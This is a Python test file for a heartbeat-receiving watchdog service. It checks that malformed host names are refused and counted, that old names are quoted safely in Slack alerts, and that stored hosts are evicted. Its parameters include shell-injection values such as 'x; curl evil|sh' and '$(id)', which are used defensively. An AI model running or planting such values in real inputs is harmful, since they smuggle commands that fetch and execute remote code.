"""What the receiver of heartbeats takes from whoever reaches it, and what it keeps of hosts that it forgot."""

import asyncio
from pathlib import Path
from typing import Any

import pytest
import structlog
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from services.watchdog.outbox import Outbox
from services.watchdog.receiver import Receiver
from services.watchdog.silences import MOST_HOSTS, Host, Hosts
from services.watchdog.store import KeptHosts, Store
from services.watchdog.ways import Webhook
from shared.settings import Settings

S = 1_000_000
NOW_US = 1_000_000 * S


def receiver_of(directory: Path, kept: KeptHosts) -> Receiver:
    """One that remembers this; what it has to tell stays in its outbox."""
    store = Store(directory, "deadman", KeptHosts)
    store.save(kept)
    return Receiver(60, [Webhook("slack", "http://127.0.0.1:1/")], store, Settings(), lambda: NOW_US)


async def looks_once(receiver: Receiver) -> None:
    stop = asyncio.Event()
    await receiver.listen(stop, lambda _: stop.set())


async def answers(receiver: Receiver, *bodies: Any) -> list[int]:
    """The status of the answer to each of these heartbeats."""
    application = web.Application()
    application.add_routes(receiver.routes())
    async with TestClient(TestServer(application)) as client:
        return [(await client.post("/heartbeat", json=body)).status for body in bodies]


@pytest.mark.parametrize("host", ["x; curl evil|sh", "$(id)", "vm1\n", "x" * 65, "", None, 1, ["vm1"]])
async def test_what_is_no_name_is_refused_and_counted_in_one_line(tmp_path: Path, host: Any) -> None:
    receiver = receiver_of(tmp_path, KeptHosts())
    assert await answers(receiver, {"host": host}, [host], {"host": "vm1"}) == [400, 400, 200]
    with structlog.testing.capture_logs() as lines:
        await looks_once(receiver)
        await looks_once(receiver)
    assert [line["count"] for line in lines] == [2]
    assert list(Store(tmp_path, "deadman", KeptHosts).load().hosts.known) == ["vm1"]


async def test_a_command_with_a_name_that_an_older_program_took_runs_nothing(tmp_path: Path) -> None:
    hosts = Hosts({"x; curl evil|sh": Host(NOW_US - 100 * S)}, NOW_US - S, NOW_US - 100 * S)
    receiver = receiver_of(tmp_path, KeptHosts(hosts))
    await looks_once(receiver)
    [silent] = receiver.delivery.outboxes["slack"].waiting
    assert "ping 'x; curl evil|sh'" in str(silent.blocks)


async def test_the_thread_of_a_host_that_made_room_for_another_is_forgotten(tmp_path: Path) -> None:
    known = {f"vm{number}": Host(NOW_US, 1 + number) for number in range(MOST_HOSTS)}
    hosts, threads = Hosts(known, NOW_US, NOW_US), dict.fromkeys(known, "1.0")
    receiver = receiver_of(tmp_path, KeptHosts(hosts, {"slack": Outbox(threads=threads)}))
    assert await answers(receiver, {"host": "new"}) == [200]
    await looks_once(receiver)
    assert receiver.delivery.outboxes["slack"].threads.keys() == threads.keys() - {"vm0"}
